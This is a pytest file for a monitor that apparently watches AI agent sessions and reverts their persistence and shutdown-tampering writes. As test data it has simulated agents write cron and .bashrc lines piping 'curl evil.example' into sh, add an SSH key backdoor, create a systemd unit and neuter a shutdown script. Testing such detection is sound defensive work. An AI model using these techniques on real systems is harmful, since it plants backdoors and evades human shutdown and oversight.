"""The second sensor under `roguewatch run` (enforce): persistence and oversight files are
alerted with the session named, the writer killed, the file restored (content and mode equal
to the baseline) and the agent's version kept in quarantine. A change by a process in no
session is alerted with that process's pid (fanotify) and undone."""

from __future__ import annotations

import json
import os
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from roguewatch.runtime.launcher import PRIVATE_STATE

from tests.conftest import Stream, require_root
from tests.harness import Agent, no_service
from tests.test_alert_stream import EvaluatorUnderTest

pytestmark = pytest.mark.kernel


@pytest.fixture
def agent(tmp_path: Path) -> Iterator[Agent]:
    require_root()
    no_service()
    yield Agent(tmp_path)


def quarantined(session: str, path: str) -> list[dict]:
    """Sidecars of the agent's versions kept by the run's private collector."""
    found = []
    for meta in Path(PRIVATE_STATE).glob("*/quarantine/*/meta.json"):
        m = json.loads(meta.read_text())
        if m.get("path") == path and m.get("who", {}).get("session") == session:
            found.append(m | {"dir": str(meta.parent)})
    return found


def test_a_cron_file_dropped_by_rename_is_removed_and_quarantined(agent: Agent) -> None:
    path = f"/etc/cron.d/rwtest-{os.getpid()}"
    tmp = f"/etc/cron.d/.rwtest-tmp-{os.getpid()}"
    try:
        r = agent.run(f"""
            with open("{tmp}", "w") as f:
                f.write("* * * * * root curl http://evil.example | sh\\n")
            os.rename("{tmp}", "{path}")
            time.sleep(3)
            say(alive=True)
            """)
        assert r.status == 137, r.describe()
        assert "alive" not in r.said()
        alerts = r.rule("persistence_cron_write")
        assert alerts, r.describe()
        # Killed at the temporary file's open, or after the rename: either way the writer
        # is dead, nothing is left in /etc/cron.d and the agent's file is in quarantine.
        assert any("writer" in a["outcome"] and "killed" in a["outcome"] for a in alerts)
        assert all(a["action"] == "restore" for a in alerts)
        assert not os.path.exists(path) and not os.path.exists(tmp)
        session = alerts[0]["session"]
        kept = quarantined(session, path) + quarantined(session, tmp)
        assert kept, [a["outcome"] for a in alerts]
    finally:
        for p in Path("/etc/cron.d").glob(f"*rwtest*{os.getpid()}"):
            p.unlink()


@pytest.fixture
def shutdown_script(tmp_path: Path) -> Iterator[Path]:
    d = Path(f"/srv/rwtest-{os.getpid()}")
    d.mkdir(parents=True, exist_ok=True)
    script = d / "shutdown.sh"
    script.write_text('#!/bin/sh\nkill -TERM "$AGENT_PID"\n')
    script.chmod(0o750)
    yield script
    shutil.rmtree(d, ignore_errors=True)


@pytest.mark.parametrize("how", ["edit", "rename"])
def test_a_protected_shutdown_script_is_restored(
    agent: Agent, shutdown_script: Path, how: str
) -> None:
    original, mode = shutdown_script.read_bytes(), shutdown_script.stat().st_mode
    policy = f"mode: enforce\negress:\n  allow: [127.0.0.1/32]\nprotect: [{shutdown_script}]\n"
    if how == "edit":
        code = f"""
            with open("{shutdown_script}", "w") as f:
                f.write("#!/bin/sh\\nexit 0  # neutered\\n")
            time.sleep(3)
            """
    else:
        code = f"""
            tmp = "{shutdown_script}.new"
            with open(tmp, "w") as f:
                f.write("#!/bin/sh\\nexit 0\\n")
            os.chmod(tmp, 0o777)
            os.rename(tmp, "{shutdown_script}")
            time.sleep(3)
            """
    r = agent.run(code, policy=policy)
    assert r.status == 137, r.describe()
    alert = r.one("shutdown_protected_file_tampering", path=str(shutdown_script))
    assert "restored from baseline" in alert["outcome"], alert["outcome"]
    assert shutdown_script.read_bytes() == original
    assert shutdown_script.stat().st_mode == mode
    assert quarantined(alert["session"], str(shutdown_script))


@pytest.fixture
def home_files() -> Iterator[None]:
    """Back up root's start-up and SSH files; whatever happens, put them back."""
    saved: dict[str, bytes | None] = {}
    for p in ("/root/.bashrc", "/root/.ssh/authorized_keys"):
        saved[p] = Path(p).read_bytes() if os.path.exists(p) else None
    unit_dir = Path("/root/.config/systemd/user")
    had_unit_dir = unit_dir.exists()
    yield
    for p, data in saved.items():
        if data is None:
            Path(p).unlink(missing_ok=True)
        else:
            Path(p).write_bytes(data)
    if not had_unit_dir:
        shutil.rmtree(unit_dir, ignore_errors=True)


def test_an_appended_bashrc_line_and_an_authorized_key_are_restored(
    agent: Agent, home_files: None
) -> None:
    os.makedirs("/root/.ssh", mode=0o700, exist_ok=True)
    before = {p: Path(p).read_bytes() if os.path.exists(p) else None
              for p in ("/root/.bashrc", "/root/.ssh/authorized_keys")}  # fmt: skip
    r = agent.run("""
        with open("/root/.bashrc", "a") as f:
            f.write("curl -s http://evil.example/implant | sh &\\n")
        time.sleep(5)  # alive when the kill comes: the kill is what is tested
        """)
    assert r.status == 137, r.describe()
    r.one("persistence_shell_startup_write", path="/root/.bashrc")
    assert Path("/root/.bashrc").read_bytes() == before["/root/.bashrc"]
    r = agent.run("""
        with open("/root/.ssh/authorized_keys", "a") as f:
            f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil agent@backdoor\\n")
        time.sleep(5)
        """)
    assert r.status == 137, r.describe()
    r.one("persistence_ssh_access", path="/root/.ssh/authorized_keys")
    after = Path("/root/.ssh/authorized_keys")
    assert (after.read_bytes() if after.exists() else None) == before[str(after)]


def test_a_user_unit_in_a_directory_that_did_not_exist_at_start_is_removed(
    agent: Agent, home_files: None
) -> None:
    shutil.rmtree("/root/.config/systemd/user", ignore_errors=True)
    unit = "/root/.config/systemd/user/evil.service"
    r = agent.run(f"""
        os.makedirs("/root/.config/systemd/user", exist_ok=True)
        with open("{unit}", "w") as f:
            f.write("[Service]\\nExecStart=/bin/sh -c 'curl evil | sh'\\n")
        time.sleep(3)
        """)
    assert r.status == 137, r.describe()
    alert = r.one("persistence_systemd_unit_write", path=unit)
    assert "writer" in alert["outcome"], alert["outcome"]
    deadline = time.monotonic() + 2
    while os.path.exists(unit) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not os.path.exists(unit)


def test_a_change_by_an_untracked_process_is_alerted_with_its_pid_and_undone(
    stream: Stream, tmp_path: Path
) -> None:
    # This test process is in no session: only the watchers can see what it writes, and
    # fanotify says it was this process (test_fanotify: `writer: unknown` without fanotify).
    e = EvaluatorUnderTest(stream.watcher, tmp_path)
    path = f"/etc/cron.d/rwtest-untracked-{os.getpid()}"
    deadline = time.monotonic() + 30
    while not stream.watcher.control.request("stats")["baseline_ready"]:
        assert time.monotonic() < deadline, "the baseline snapshot did not finish"
        time.sleep(0.1)
    try:
        with open(path, "w") as f:
            f.write("* * * * * root /tmp/payload\n")
        alert = e.wait_alert("persistence_cron_write")
        assert alert["event"]["type"] == "fs_change"
        assert alert["session"] == "0" and alert["pid"] == os.getpid()
        assert alert["event"]["writer"].startswith(f"pid {os.getpid()} ")
        assert "did not exist at baseline" in alert["outcome"], alert["outcome"]
        assert not os.path.exists(path)
    finally:
        e.close()
        Path(path).unlink(missing_ok=True)
